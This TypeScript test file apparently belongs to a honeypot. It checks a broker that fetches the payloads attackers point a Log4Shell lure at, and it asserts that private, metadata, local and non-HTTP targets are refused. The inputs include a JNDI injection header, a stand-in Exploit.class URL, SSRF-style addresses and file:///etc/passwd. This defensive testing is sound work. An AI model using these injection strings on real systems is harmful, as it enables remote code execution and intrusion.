import { createHash } from 'node:crypto'
import { describe, expect, it, onTestFinished } from 'vitest'
import { OutputEntry } from '../../src/config/outputs.ts'
import log4shell from '../../src/emulators/log4shell/index.ts'
import { EventBus } from '../../src/events/bus.ts'
import type { SundewEvent } from '../../src/events/schema.ts'
import { uuid7 } from '../../src/events/uuid7.ts'
import { openSink } from '../../src/outputs/outputs.ts'
import { Busy, type Sink } from '../../src/outputs/sink.ts'
import { accountsOnly } from '../emulators/hosts.ts'
import { MemoryArtifacts, play } from '../harness.ts'
import { sampleEvent } from '../store/sample-events.ts'
import { fakeHttp, fakeTcp, type Received } from './fake-server.ts'

const CLASS = Buffer.from('cafebabe00000034001d', 'hex')
const FACTORY = { url: 'http://x.example/Exploit.class', base64: CLASS.toString('base64') }
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

interface Desk {
  sink: Sink
  artifacts: MemoryArtifacts
  events: SundewEvent[]
}

function desk(url: string, settings: Record<string, unknown> = {}): Desk {
  const artifacts = new MemoryArtifacts()
  const bus = new EventBus('test')
  const events: SundewEvent[] = []
  bus.subscribe((event) => events.push(event))
  bus.onDeadLetter(({ reason }) => expect.unreachable(reason))
  const entry = OutputEntry.parse({ kind: 'samples', url, token: 'b4oker', ...settings })
  const sink = openSink(entry, { data: '/nonexistent' }, { store: { events: async () => [] }, artifacts, bus })
  onTestFinished(async () => sink.close?.())
  return { sink, artifacts, events }
}

const soon = (): AbortSignal => AbortSignal.timeout(5_000)
const pointer = (value: string, more: Partial<SundewEvent> = {}): SundewEvent =>
  sampleEvent({
    type: 'indicator',
    session: uuid7(),
    lure: 'log4shell',
    srcIp: '192.0.2.66',
    data: { kind: 'url', value, how: 'jndi' },
    ...more,
  })
const jobs = (received: readonly Received[]): { target?: string }[] => received.map(({ body }) => JSON.parse(body) as { target?: string })
const outcomes = ({ events }: Desk): unknown[] =>
  events.filter(({ type }) => type === 'sample').map(({ data }) => [data.outcome, data.reason].filter(Boolean).join(': '))

describe('a broker of samples', () => {
  it('is handed what an attacker points at, and what it brings is kept, with who pointed at it', async () => {
    const { url, received } = await fakeHttp({ status: 200, body: JSON.stringify({ files: [FACTORY] }) })
    const at = desk(`${url}/jobs`)
    const event = pointer('ldap://x.example:1389/a', { tags: ['cve:CVE-2021-44228'] })
    await at.sink.send([event, sampleEvent({ type: 'login' })], soon())
    expect(received).toMatchObject([{ method: 'POST', path: '/jobs', headers: { authorization: 'Bearer b4oker' } }])
    expect(jobs(received)).toEqual([
      {
        id: event.id,
        session: event.session,
        source: '192.0.2.66',
        lure: 'log4shell',
        how: 'jndi',
        target: 'ldap://x.example:1389/a',
        maxBytes: 10 * 1024 * 1024,
        maxMs: 20_000,
      },
    ])
    expect([...at.artifacts.kept.values()]).toEqual([CLASS])
    const kept = { session: event.session, srcIp: '192.0.2.66', lure: 'log4shell', tags: ['cve:CVE-2021-44228'] }
    const file = { sha256: sha256(CLASS), size: CLASS.length, url: FACTORY.url }
    expect(at.events).toMatchObject([
      { type: 'artifact', ...kept, data: { ...file, how: 'broker' } },
      { type: 'sample', ...kept, data: { target: 'ldap://x.example:1389/a', outcome: 'kept', indicator: event.id, files: [file] } },
    ])
  })

  it('says where it was led, and why it stopped there', async () => {
    const { url } = await fakeHttp(
      { status: 200, body: JSON.stringify({ files: [FACTORY], urls: [{ url: 'http://x.example/', outcome: 'kept' }] }) },
      {
        status: 200,
        body: JSON.stringify({
          files: [],
          urls: [
            { url: 'http://y.example/', outcome: 'moved', reason: 'to http://10.0.0.1/' },
            { url: 'http://10.0.0.1/', outcome: 'refused', reason: 'no public address' },
          ],
        }),
      },
      { status: 200, body: JSON.stringify({ files: [], urls: [{ url: 'http://z.example/', outcome: 'failed', reason: 'answered 404' }] }) },
      { status: 200, body: JSON.stringify({ files: [], urls: [{ url: 'http://z.example/', outcome: 'attacked' }] }) },
    )
    const at = desk(url)
    await at.sink.send(
      ['x', 'y', 'z', 'w'].map((name) => pointer(`http://${name}.example/`)),
      soon(),
    )
    const unreadable = 'unreadable: not the JSON that docs/samples.md describes'
    expect(outcomes(at)).toEqual(['kept', 'refused: no public address', 'nothing: answered 404', unreadable])
    expect(at.events.filter(({ type }) => type === 'sample').map(({ data }) => (data.urls as unknown[] | undefined)?.length)).toEqual([
      1,
      2,
      1,
      undefined,
    ])
  })

  it('gets a target once an hour, and no more jobs than one source and all may have', async () => {
    const { url, received } = await fakeHttp({ status: 204 })
    const at = desk(url, { perSource: 2, perHour: 3 })
    const of = (name: string, srcIp: string): SundewEvent => pointer(`ldap://${name}.example/a`, { srcIp })
    await at.sink.send([of('a', '192.0.2.1'), of('a', '192.0.2.2'), of('b', '192.0.2.1'), of('c', '192.0.2.1')], soon())
    await at.sink.send([of('d', '192.0.2.3'), of('e', '192.0.2.4')], soon())
    expect(jobs(received).map(({ target }) => target)).toEqual(['a', 'b', 'd'].map((name) => `ldap://${name}.example/a`))
    expect(outcomes(at)).toEqual(['nothing', 'nothing', 'refused: 2 jobs an hour for one source', 'nothing', 'refused: 3 jobs an hour'])
  })

  it.each([
    ['ldap://127.0.0.1:1389/a', 'a private, reserved or relied-on address'],
    ['http://2130706433/a', 'a private, reserved or relied-on address'],
    ['http://0x7f.1/a', 'a private, reserved or relied-on address'],
    ['http://[::ffff:10.0.0.1]/a', 'a private, reserved or relied-on address'],
    ['http://169.254.169.254/latest', 'a private, reserved or relied-on address'],
    ['rmi://[fe80::1]:1099/a', 'a private, reserved or relied-on address'],
    ['ldap://localhost/a', 'a name of a local network'],
    ['ldap://vcenter.internal/a', 'a name of a local network'],
    ['http://user@printer/a', 'a name of a local network'],
    ['ldap://9.9.9.10/a', 'the address that was attacked'],
    ['file:///etc/passwd', 'scheme file'],
    ['dns://x.example/a', 'scheme dns'],
    ['gopher://x.example/a', 'scheme gopher'],
    ['a', 'scheme none'],
    ['ldap://${env:HOST}.x.example/a', 'a lookup is left in it'],
    ['ldap:///a b', 'no host'],
  ])('is not handed %s', async (target, reason) => {
    const { url, received } = await fakeHttp({ status: 204 })
    const at = desk(url)
    await at.sink.send([pointer(target, { dstIp: '9.9.9.10' })], soon())
    expect([received, outcomes(at)]).toEqual([[], [`refused: ${reason}`]])
  })

  it.each([
    ['that is no JSON', 'oops', 'not the JSON that docs/samples.md describes'],
    ['of another form', '{"files":{}}', 'not the JSON that docs/samples.md describes'],
    ['that is too long', JSON.stringify({ files: [{ url: 'http://x.example/', base64: 'A'.repeat(300_000) }] }), 'more than 0.1 MiB'],
    ['with too much in it', JSON.stringify({ files: [{ url: 'http://x.example/', base64: 'A'.repeat(160_000) }] }), 'more than 0.1 MiB'],
  ])('keeps nothing of an answer %s', async (_, body, reason) => {
    const { url } = await fakeHttp({ status: 200, body })
    const at = desk(url, { maxMiB: 0.1 })
    await at.sink.send([pointer('ldap://x.example/a')], soon())
    expect([at.artifacts.kept.size, outcomes(at)]).toEqual([0, [`unreadable: ${reason}`]])
  })

  it('has a time to answer; one that is away or busy is asked again', async () => {
    const { url, received } = await fakeHttp('slow', { status: 503, headers: { 'retry-after': '3' } }, { status: 204 })
    const at = desk(url, { jobMs: 100 })
    await at.sink.send([pointer('ldap://slow.example/a')], soon())
    expect(outcomes(at)).toEqual(['late: no answer within 100 ms'])
    const event = pointer('ldap://x.example/a')
    await expect(at.sink.send([event], soon())).rejects.toThrow(Busy)
    await at.sink.send([event], soon())
    expect(outcomes(at).slice(1)).toEqual(['nothing'])
    expect(received).toHaveLength(3)
    const away = desk('http://127.0.0.1:9')
    await expect(away.sink.send([event], soon())).rejects.toThrow(/ECONNREFUSED/)
    expect(away.events).toEqual([])
  })

  it('is asked by "sundew outputs test" whether it is there, for nothing', async () => {
    const { url, received } = await fakeHttp({ status: 204 })
    await desk(url).sink.send([sampleEvent({ type: 'login', tags: ['note:test'] })], soon())
    expect(jobs(received)).toMatchObject([{ test: true }])
  })
})

describe('a lookup at a lure', () => {
  it('reaches nobody, with a broker or without', async () => {
    const attacker = await fakeTcp(() => undefined)
    const broker = await fakeHttp({ status: 204 })
    const playing = await play(log4shell, { persona: 'debian-web', hosts: accountsOnly() })
    try {
      const target = `ldap://127.0.0.1:${attacker.port}/a`
      await playing.exchange(`GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: $\{jndi:${target}}\r\nConnection: close\r\n\r\n`)
      const [pointed] = playing.events.filter(({ type, data }) => type === 'indicator' && data.value === target)
      expect(attacker.connections).toBe(0)
      // Even though the output is switched on: the guard refuses the address, and the job would have gone to the broker.
      const at = desk(broker.url)
      await at.sink.send([pointed as SundewEvent, pointer('ldap://x.example/a')], soon())
      expect(outcomes(at)).toEqual(['refused: the address that was attacked', 'nothing'])
      expect([broker.received.length, attacker.connections]).toEqual([1, 0])
    } finally {
      await playing.stop()
    }
  })
})
